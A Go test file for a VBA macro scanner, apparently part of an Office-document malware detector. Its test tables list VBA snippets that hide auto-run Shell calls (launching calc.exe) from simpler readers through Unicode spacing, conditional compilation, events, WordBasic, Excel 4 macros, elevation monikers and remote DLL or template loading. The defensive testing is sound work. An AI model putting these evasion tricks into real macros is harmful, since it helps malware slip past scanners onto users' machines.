package vba

import (
	"fmt"
	"strings"
	"testing"
)

// project reads modules from one text: "--- Name" begins another one.
func project(source string) *Project {
	p := one("")
	for part := range strings.SplitSeq("Module1\n"+source, "\n--- ") {
		name, body, _ := strings.Cut(part, "\n")
		p.Modules = append(p.Modules, Module{Name: name, Stream: "VBA/" + name, Source: body + "\n"})
	}
	p.Modules = p.Modules[1:]
	return p
}

// evasions are projects whose language hides from a simpler reader that they start a program by themselves.
var evasions = map[string]string{
	"EOM for a space":      "Sub\x19AutoOpen()\nShell\x19\"calc.exe\"\nEnd Sub",
	"wide space":           "Sub\u3000AutoOpen()\nShell\u3000\"calc.exe\"\nEnd Sub",
	"no-break space":       "Sub\u00a0AutoOpen()\nShell\u00a0\"calc.exe\"\nEnd Sub",
	"wide letters":         "Ｓｕｂ Ａｕｔｏ＿Ｏｐｅｎ()\nＳｈｅｌｌ \"calc.exe\"\nＥｎｄ Ｓｕｂ",
	"symbol in a name":     "Sub AutoOpen()\n処理①\nEnd Sub\nSub 処理②()\nEnd Sub\nSub 処理①()\nShell \"calc.exe\"\nEnd Sub",
	"member in brackets":   "Sub AutoOpen()\nVBA.[_HiddenModule].[Shell] \"calc.exe\"\nEnd Sub",
	"function in brackets": "Sub AutoOpen()\nx = [Shell](\"calc.exe\")\nEnd Sub",
	"entry in brackets":    "Sub [AutoOpen]()\nShell \"calc.exe\"\nEnd Sub",
	"End Sub left out":     "Sub AutoOpen()\n#If False Then\nEnd Sub\n#End If\nShell \"calc.exe\"\nEnd Sub",
	"procedure left out":   "Sub AutoOpen()\n#If False Then\nEnd Sub\nSub Decoy()\n#End If\nShell \"calc.exe\"\nEnd Sub",
	"beginning left out":   "Sub AutoOpen()\n#If 0 Then\nSub Decoy()\n#End If\nShell \"calc.exe\"\nEnd Sub",
	"Type left out":        "Sub AutoOpen()\n#If Mac Then\nType T\n#End If\nShell \"calc.exe\"\nEnd Sub",
	"event of the project": "Private WithEvents c As Class1\nSub Document_Open()\nSet c = New Class1\nc.Fire\nEnd Sub\nPrivate Sub c_Go(cmd)\nShell cmd\nEnd Sub\n" +
		"--- Class1\nPublic Event Go(cmd)\nSub Fire()\nRaiseEvent Go(\"calc.exe\")\nEnd Sub",
	"event of the program": "Private WithEvents App As Word.Application\nSub Document_Open()\nSet App = Word.Application\nEnd Sub\n" +
		"Private Sub App_DocumentChange()\nShell \"calc.exe\"\nEnd Sub",
	"interface":              "Sub AutoOpen()\nDim x As IFoo\nSet x = New Class1\nx.DoIt\nEnd Sub\n--- IFoo\nSub DoIt()\nEnd Sub\n--- Class1\nImplements IFoo\nPrivate Sub IFoo_DoIt()\nShell \"calc.exe\"\nEnd Sub",
	"default member":         "Sub AutoOpen()\nDim c As New Class1\nDebug.Print c\nEnd Sub\n--- Class1\nProperty Get Foo()\nAttribute Foo.VB_UserMemId = 0\nShell \"calc.exe\"\nEnd Property",
	"enumerator":             "Sub AutoOpen()\nDim c As New Class1\nFor Each x In c\nNext\nEnd Sub\n--- Class1\nFunction Items() As IUnknown\nAttribute Items.VB_UserMemId = -4\nShell \"calc.exe\"\nEnd Function",
	"calls too deep":         "Sub AutoOpen()\na1 \"calc.exe\"\nEnd Sub\n" + deepCalls(callsMax+8) + "Sub z(x)\nShell x\nEnd Sub",
	"procedure named Step":   "Sub AutoOpen()\nStep\nEnd Sub\nSub Step()\nShell \"calc.exe\"\nEnd Sub",
	"procedure named Access": "Sub AutoOpen()\nCall Access\nEnd Sub\nSub Access()\nShell \"calc.exe\"\nEnd Sub",
}

// roundabout are uses of an ability that look like ordinary work, or have another name than usual.
var roundabout = map[string]string{
	"function worked out as a formula":   "Sub Auto_Open()\nApplication.Evaluate \"Go()\"\nEnd Sub\nFunction Go()\nShell \"calc.exe\"\nEnd Function",
	"function in a cell":                 "Sub Auto_Open()\nRange(\"A1\").Value = \"=IF(TRUE,Go(),0)\"\nEnd Sub\nFunction Go()\nShell \"calc.exe\"\nEnd Function",
	"function as an Excel 4 expression":  "Sub Auto_Open()\nExecuteExcel4Macro \"Go()\"\nEnd Sub\nFunction Go()\nShell \"calc.exe\"\nEnd Function",
	"function that is always calculated": "Function Go()\nApplication.Volatile\nShell \"calc.exe\"\nEnd Function",
	"menu that code presses":             "Sub AutoOpen()\nWith CommandBars.Add.Controls.Add\n.OnAction = \"Go\"\n.Execute\nEnd With\nEnd Sub\nSub Go()\nShell \"calc.exe\"\nEnd Sub",
	"WordBasic":                          "Sub AutoOpen()\nWordBasic.Shell \"calc.exe\"\nEnd Sub",
	"WordBasic with With":                "Sub AutoOpen()\nWith WordBasic\n.Shell \"calc.exe\"\nEnd With\nEnd Sub",
	"ToolsMacro":                         "Sub AutoOpen()\nWordBasic.ToolsMacro Name:=\"Go\", Run:=1\nEnd Sub\nSub Go()\nShell \"calc.exe\"\nEnd Sub",
	"workbook with macros opened":        "Sub Auto_Open()\nWorkbooks.Open \"https://example.test/a.xlsm\"\nEnd Sub",
	"template opened":                    "Sub AutoOpen()\nDocuments.Add Template:=\"http://example.test/a.dotm\"\nEnd Sub",
	"script of a page":                   "Sub AutoOpen()\nCreateObject(\"htmlfile\").parentWindow.execScript s, \"JScript\"\nEnd Sub",
	"script written to a page":           "Sub AutoOpen()\nCreateObject(\"htmlfile\").write \"<script>new ActiveXObject('x')</script>\"\nEnd Sub",
	"style sheet with a script":          "Sub AutoOpen()\nSet d = CreateObject(\"MSXML2.DOMDocument\")\nd.transformNode x\nEnd Sub",
	"elevated object":                    "Sub AutoOpen()\nGetObject(\"Elevation:Administrator!new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}\").Item.Open\nEnd Sub",
	"class object":                       "Sub AutoOpen()\nGetObject(\"clsid:9BA05972-F6A8-11CF-A442-00A0C90A8F39\").Item.Open\nEnd Sub",
	"Shell32":                            "Sub AutoOpen()\nDim s As New Shell32.Shell\ns.Open \"calc.exe\"\nEnd Sub",
	"Option Base":                        "Option Base 1\nSub AutoOpen()\nCreateObject(Array(\"WScri\" & \"pt.Shell\", \"Scripting.Dictionary\")(1)).Run \"calc.exe\"\nEnd Sub",
	"Option Compare":                     "Option Compare Text\nSub AutoOpen()\nx = \"Scripting.Dictionary\"\nIf \"A\" = \"a\" Then x = \"WScript.Shell\"\nCreateObject(x).Run \"calc.exe\"\nEnd Sub",
	"declared twice":                     "Private Declare Function F Lib \"shell32\" Alias \"ShellExecuteA\" (ByVal x As Long) As Long\nSub AutoOpen()\nF 0, \"open\", \"calc.exe\"\nEnd Sub\n--- Module2\nPrivate Declare Function F Lib \"user32\" Alias \"MessageBoxA\" (ByVal x As Long) As Long",
	"library with a trusted name":        "Private Declare Function F Lib \"C:\\Users\\Public\\user32.dll\" (ByVal x As Long) As Long\nSub AutoOpen()\nF 0\nEnd Sub",
	"library loaded from elsewhere":      "Private Declare Function LoadLibraryA Lib \"kernel32\" (ByVal x As String) As Long\nSub AutoOpen()\nLoadLibraryA \"\\\\example.test\\a\\x.dll\"\nEnd Sub",
	"argument of With":                   "Sub Auto_Open()\nWith Range(\"A1\")\nShell .Text\nEnd With\nEnd Sub",
	"Excel 4 sheet added":                "Sub Auto_Open()\nSheets.Add Type:=xlExcel4MacroSheet\nEnd Sub",
	"hyperlink followed":                 "Sub AutoOpen()\nActiveDocument.Hyperlinks(1).Follow\nEnd Sub",
	"object activated":                   "Sub Auto_Open()\nSheets(1).OLEObjects(1).Verb 1\nEnd Sub",
	"work with the sheet":                "Private Sub Worksheet_SelectionChange(ByVal Target As Range)\nShell \"calc.exe\"\nEnd Sub",
	"class by name":                      "Sub AutoOpen()\nSet x = GetObject(Class:=\"WScript.Shell\", PathName:=\"\")\nEnd Sub",
	"file name last":                     "Sub AutoOpen()\nActiveDocument.SaveAs FileFormat:=2, FileName:=\"c:\\users\\public\\a.hta\"\nEnd Sub",
	"registry by Word":                   "Sub AutoOpen()\nSystem.PrivateProfileString(\"\", \"HKEY_CURRENT_USER\\Software\\x\", \"x\") = \"calc\"\nEnd Sub",
	"Run of what stands in a cell":       "Sub Auto_Open()\nSet a = Application\na.Run Cells(1, 1).Value\nEnd Sub\nSub Go()\nShell \"calc.exe\"\nEnd Sub",
	"class read from a file":             "Sub AutoOpen()\nx = \"Scripting.Dictionary\"\nLine Input #1, x\nCreateObject(x).Run \"calc\"\nEnd Sub",
	"class got from a file":              "Sub AutoOpen()\nx = \"Scripting.Dictionary\"\nGet #1, , x\nCreateObject(x).Run \"calc\"\nEnd Sub",
	"class by a branch":                  "Sub AutoOpen()\nIf ActiveDocument.Saved Then\nx = ActiveDocument.Variables(1)\nElse\nx = \"Scripting.Dictionary\"\nEnd If\nCreateObject(x).Run \"calc\"\nEnd Sub",
	"class by a line":                    "Sub AutoOpen()\nx = ActiveDocument.Variables(1)\nIf ActiveDocument.Saved Then x = \"Scripting.Dictionary\"\nCreateObject(x).Run \"calc\"\nEnd Sub",
	"class set by reference":             "Sub AutoOpen()\nx = \"Scripting.Dictionary\"\nF x\nCreateObject(x).Run \"calc\"\nEnd Sub\nSub F(y)\ny = ActiveDocument.Variables(1)\nEnd Sub",
	"class moved in memory":              "Private Declare Sub Mv Lib \"kernel32\" Alias \"RtlMoveMemory\" (a As Any, b As Any, ByVal n As Long)\nSub AutoOpen()\nx = \"Scripting.Dictionary\"\nMv x, y, 4\nCreateObject(x).Run \"calc\"\nEnd Sub",
	"records saved as a script":          "Sub AutoOpen()\nCreateObject(\"ADODB.Recordset\").Save \"c:\\users\\public\\a.vbs\"\nEnd Sub",
}

func TestRoundaboutUsesAreUses(t *testing.T) {
	for name, source := range roundabout {
		if r := judged(t, project(source)); !r.Suspicious || len(r.Autoexec) == 0 {
			t.Errorf("%s: %+v", name, r)
		}
	}
}

func TestEventsOfControlsOnTheDocumentStartUnlessAPersonActs(t *testing.T) {
	for event, want := range map[string]bool{"GetDayBold": true, "StateChanged": false, "Click": false, "KeyDown": false, "Started": true} {
		p := one("Private Sub MonthView1_" + event + "()\nShell \"calc.exe\"\nEnd Sub\n")
		p.Controls = []string{"MonthView1"}
		if r := judged(t, p); r.Suspicious != want {
			t.Errorf("%s: %+v", event, r)
		}
	}
}

// harmless are near the roundabout uses.
var harmless = map[string]string{
	"spreadsheet opened":  "Sub Auto_Open()\nWorkbooks.Open \"https://example.test/prices.xlsx\"\nEnd Sub",
	"query of the web":    "Sub Auto_Open()\nActiveSheet.QueryTables.Add \"URL;https://example.test/prices\", Range(\"A1\")\nEnd Sub",
	"settings loaded":     "Sub Auto_Open()\nCreateObject(\"MSXML2.DOMDocument\").Load \"https://example.test/settings.xml\"\nEnd Sub",
	"menu":                "Sub Auto_Open()\nWith CommandBars.Add.Controls.Add\n.OnAction = \"Go\"\nEnd With\ncn.Query\nEnd Sub\nSub Go()\nShell \"calc.exe\"\nEnd Sub",
	"formula":             "Sub Auto_Open()\nRange(\"A1\").Formula = \"=SUM(Twice(A2))\"\nEnd Sub\nFunction Twice(x)\nTwice = 2 * x\nEnd Function",
	"saved":               "Sub Auto_Open()\nActiveWorkbook.Save\nEnd Sub",
	"directory service":   "Sub Auto_Open()\nSet o = GetObject(\"LDAP://rootDSE\")\nEnd Sub",
	"library of the book": "Private Declare Function LoadLibraryA Lib \"kernel32\" (ByVal x As String) As Long\nSub Auto_Open()\nLoadLibraryA ThisWorkbook.Path & \"\\solver.dll\"\nEnd Sub",
}

func TestOrdinaryUsesAreHarmless(t *testing.T) {
	for name, source := range harmless {
		if r := judged(t, project(source)); r.Suspicious {
			t.Errorf("%s: %+v", name, r)
		}
	}
}

func TestLanguageDoesNotHideWhatStartsByItself(t *testing.T) {
	for name, source := range evasions {
		if r := judged(t, project(source)); !r.Suspicious || len(r.Autoexec) == 0 {
			t.Errorf("%s: %+v", name, r)
		}
	}
}

// deepCalls are procedures that pass their argument on, to z at last.
func deepCalls(n int) string {
	var s strings.Builder
	for i := range n {
		next := fmt.Sprintf("a%d", i+2)
		if i == n-1 {
			next = "z"
		}
		fmt.Fprintf(&s, "Sub a%d(x)\n%s x\nEnd Sub\n", i+1, next)
	}
	return s.String()
}
